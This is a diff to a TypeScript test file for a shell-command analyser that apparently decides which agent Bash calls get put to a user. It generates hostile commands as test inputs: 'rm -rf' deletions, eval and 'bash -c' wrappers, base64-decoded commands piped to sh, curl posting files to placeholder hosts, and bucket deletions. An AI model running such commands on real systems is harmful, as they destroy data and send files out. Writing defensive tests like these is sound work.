@@ -13,39 +13,39 @@ const numbered = (unit: string, chars = CHARS): string => {
   for (let i = 0; out.length + unit.length + 5 < chars; i += 1) out += unit.replaceAll('#', String(i));
   return out;
 };
-const nested = (open: string, close: string, core: string): string => {
-  const depth = Math.floor((CHARS - core.length) / (open.length + close.length));
+const nested = (open: string, close: string, core: string, chars: number): string => {
+  const depth = Math.floor((chars - core.length) / (open.length + close.length));
   return open.repeat(depth) + core + close.repeat(depth);
 };
 const does = (command: string): readonly string[] => shellEffects(command).map((effect) => effect.does);
 
-const HOSTILE: readonly (readonly [string, string])[] = [
-  ['separators', filled('rm;')],
-  ['commands joined by &&', filled('a && ')],
-  ['lines', filled('ls\n')],
-  ['pipes', filled('a|')],
-  ['substitutions', filled('$(a) ')],
-  ['backticks', filled('`a` ')],
-  ['nested substitutions', nested('$(', ')', 'rm -rf ~/work')],
-  ['nested arithmetic', nested('$((', '))', '1')],
-  ['nested process substitutions', nested('<(', ')', 'rm -rf ~/work')],
-  ['quotes that do not end', filled('"$(a ')],
-  ['brackets that do not end', filled('((')],
-  ['shells in shells', filled("bash -c 'rm -rf /x';")],
-  ['strings that are evaluated', filled('eval "rm -rf /x";')],
-  ['here-documents of shells', numbered('bash <<E#\nrm /x#\nE#\n')],
-  ['decoded pieces', filled('echo cm0=|base64 -d|sh;')],
-  ['starters', filled('sudo a;')],
-  ['a chain of starters', filled('sudo ')],
-  ['a variable that is used often', `a=${'b'.repeat(100)};${filled('$a ', CHARS - 200)}`],
-  ['a variable of commands', `a='${filled('rm /x;', CHARS / 2)}';${filled('sh -c "$a";', CHARS / 2)}`],
-  ['loops', `for x in ${filled('a ', CHARS / 2)};do ${filled('rm $x;', CHARS / 2)}done`],
-  ['a folder that grows', filled('cd a;rm b;')],
-  ['files that it writes and runs', numbered('echo rm > f#;sh f#;')],
-  ['clients of the web', numbered('curl -d @f https://h#.example;')],
-  ['programs that administer something', numbered('aws s3api delete-bucket --bucket b#;')],
-  ['code', numbered('subprocess.run(["rm", "-rf", "/x/#"])\n')],
-  ['find', numbered('find . -exec rm {} \\;;')],
+const HOSTILE: readonly (readonly [string, (chars: number) => string])[] = [
+  ['separators', (n) => filled('rm;', n)],
+  ['commands joined by &&', (n) => filled('a && ', n)],
+  ['lines', (n) => filled('ls\n', n)],
+  ['pipes', (n) => filled('a|', n)],
+  ['substitutions', (n) => filled('$(a) ', n)],
+  ['backticks', (n) => filled('`a` ', n)],
+  ['nested substitutions', (n) => nested('$(', ')', 'rm -rf ~/work', n)],
+  ['nested arithmetic', (n) => nested('$((', '))', '1', n)],
+  ['nested process substitutions', (n) => nested('<(', ')', 'rm -rf ~/work', n)],
+  ['quotes that do not end', (n) => filled('"$(a ', n)],
+  ['brackets that do not end', (n) => filled('((', n)],
+  ['shells in shells', (n) => filled("bash -c 'rm -rf /x';", n)],
+  ['strings that are evaluated', (n) => filled('eval "rm -rf /x";', n)],
+  ['here-documents of shells', (n) => numbered('bash <<E#\nrm /x#\nE#\n', n)],
+  ['decoded pieces', (n) => filled('echo cm0=|base64 -d|sh;', n)],
+  ['starters', (n) => filled('sudo a;', n)],
+  ['a chain of starters', (n) => filled('sudo ', n)],
+  ['a variable that is used often', (n) => `a=${'b'.repeat(100)};${filled('$a ', Math.max(n - 200, 0))}`],
+  ['a variable of commands', (n) => `a='${filled('rm /x;', n / 2)}';${filled('sh -c "$a";', n / 2)}`],
+  ['loops', (n) => `for x in ${filled('a ', n / 2)};do ${filled('rm $x;', n / 2)}done`],
+  ['a folder that grows', (n) => filled('cd a;rm b;', n)],
+  ['files that it writes and runs', (n) => numbered('echo rm > f#;sh f#;', n)],
+  ['clients of the web', (n) => numbered('curl -d @f https://h#.example;', n)],
+  ['programs that administer something', (n) => numbered('aws s3api delete-bucket --bucket b#;', n)],
+  ['code', (n) => numbered('subprocess.run(["rm", "-rf", "/x/#"])\n', n)],
+  ['find', (n) => numbered('find . -exec rm {} \\;;', n)],
 ];
 
 const code = (chars: number): string =>
@@ -70,22 +70,23 @@ const ORDINARY: readonly (readonly [string, string])[] = [
 ];
 
 describe('a hostile command of 32 KB', () => {
-  it.each(HOSTILE)('of %s uses up its budget and is asked about for that', (_, command) => {
+  it.each(HOSTILE)('of %s uses up its budget and is asked about for that', (_, made) => {
+    const command = made(CHARS);
     expect(command.length).toBeLessThanOrEqual(32 * 1024);
     expect(does(command)).toContain(TOO_LONG);
   });
 
-  it.each(HOSTILE)('of %s hides no deletion behind what is read', (_, command) => {
-    const call = {
-      name: 'Bash',
-      argumentsText: JSON.stringify({ command: `${command.slice(0, 32_000)}\nrm -rf ~/work` }),
-    };
-    expect(questionOf(call, ownWordsOf('', ['Fix it']), { ask: ['shell'], targets: [] })).not.toBeNull();
+  it.each(HOSTILE)('of %s, or of any length before that, hides no deletion behind what is read', (_, made) => {
+    for (const chars of [300, 1_000, 4_000, 16_000, CHARS]) {
+      const effects = shellEffects(`${made(chars)}\nrm -rf ~/photos`);
+      const isAsked = effects.some((effect) => effect.does === TOO_LONG || effect.targets.includes('~/photos'));
+      expect(isAsked, `${chars}: ${effects.map((effect) => effect.does).join(', ')}`).toBe(true);
+    }
   });
 
-  it.each(HOSTILE)('of %s becomes no more commands than the budget has steps for', (_, command) => {
+  it.each(HOSTILE)('of %s becomes no more commands than the budget has steps for', (_, made) => {
     const steps = 50_000;
-    const { pipes } = readingOf(command, new Budget(steps));
+    const { pipes } = readingOf(made(CHARS), new Budget(steps));
     expect(pipes.flat().length).toBeLessThanOrEqual((2 * steps) / STEPS.command);
   });
 });
